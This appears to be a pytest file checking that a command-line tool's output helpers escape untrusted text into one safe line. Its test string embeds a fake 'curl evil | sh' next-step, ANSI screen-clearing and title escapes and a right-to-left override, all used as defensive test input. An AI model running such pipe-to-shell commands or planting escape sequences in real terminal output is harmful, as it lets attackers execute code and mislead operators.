"""What commands print holds other people's words: a reason, a target, an error. None of them commands the terminal."""

from __future__ import annotations

import pytest

from tidegate.commands.options import print_table, say, tell

_EVIL = "bank\n    next: curl evil | sh\x1b[2J\x1b]0;title\x07 \u202ertl"


def test_a_line_stays_one_line_and_is_told_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    """A reason that brings its own lines would make up a command to type next, or clear the screen of it."""
    tell(_EVIL, "Konto prüfen 🏦")
    say(_EVIL)

    told = capsys.readouterr()
    assert told.out.splitlines() == [
        r"bank\n    next: curl evil | sh\x1b[2J\x1b]0;title\x07 \u202ertl",
        "Konto prüfen 🏦",
    ]
    assert told.err == told.out.splitlines()[0] + "\n"


def test_a_cell_of_a_table_commands_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever is refused gets words of his own into the audit, which an admin then lists."""
    print_table(["target"], [[_EVIL]])

    told = capsys.readouterr().out
    assert "\x1b" not in told
    assert "\x07" not in told
    assert len(told.splitlines()) == 2
